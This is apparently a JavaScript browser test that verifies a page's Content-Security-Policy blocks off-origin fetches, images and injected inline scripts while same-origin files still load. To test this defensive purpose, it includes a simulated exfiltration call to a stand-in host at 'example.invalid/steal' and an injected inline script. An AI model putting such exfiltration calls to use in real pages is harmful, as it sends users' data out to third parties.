// The Content-Security-Policy is enforced, not only declared: from inside the page, an off-origin fetch,
// an off-origin image and an inline script are all blocked, while the page's own files still load.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { open, start } from './harness.mjs';

test('the page cannot reach another origin or run injected inline script', async (t) => {
  const { page, server, watch } = await start(t);
  await open(page, server, '?ask=a:0.5&timeslice');
  const result = await page.evaluate(async () => {
    const out = {};
    // fetch() to another origin: refused by connect-src 'self' before any request is made.
    try {
      await fetch('http://example.invalid/steal?x=1');
      out.fetch = 'sent';
    } catch (e) {
      out.fetch = `blocked: ${e.name}`;
    }
    // An <img> pointing off-origin: refused by img-src 'self'.
    out.img = await new Promise((resolve) => {
      const img = document.createElement('img');
      img.onload = () => resolve('loaded');
      img.onerror = () => resolve('blocked');
      img.src = 'http://example.invalid/pixel.png';
      document.body.append(img);
    });
    // An inline <script> added to the DOM: refused by script-src without 'unsafe-inline'.
    window.__inlineRan = false;
    const s = document.createElement('script');
    s.textContent = 'window.__inlineRan = true;';
    document.body.append(s);
    await new Promise((r) => setTimeout(r, 100));
    out.inline = window.__inlineRan ? 'ran' : 'blocked';
    // A same-origin fetch still works.
    out.self = (await fetch('/index.html')).status;
    return out;
  });
  assert.match(result.fetch, /^blocked/);
  assert.equal(result.img, 'blocked');
  assert.equal(result.inline, 'blocked');
  assert.equal(result.self, 200);
  const violations = await page.evaluate(() => window.__cspViolations);
  assert.ok(violations.some((v) => v.startsWith('connect-src') && v.includes('example.invalid')), violations.join('; '));
  assert.ok(violations.some((v) => v.startsWith('img-src')), violations.join('; '));
  assert.ok(violations.some((v) => v.startsWith('script-src')), violations.join('; '));
  // Chromium reports the image as a request that failed with a CSP block; nothing reached the network.
  for (const u of watch.offOrigin) {
    assert.ok(watch.failed.some((f) => f.startsWith(u) && /csp/i.test(f)), `${u} was not blocked by CSP: ${watch.failed.join('; ')}`);
  }
  assert.ok(!watch.offOrigin.some((u) => u.includes('/steal')), 'the fetch was refused before any request');
});
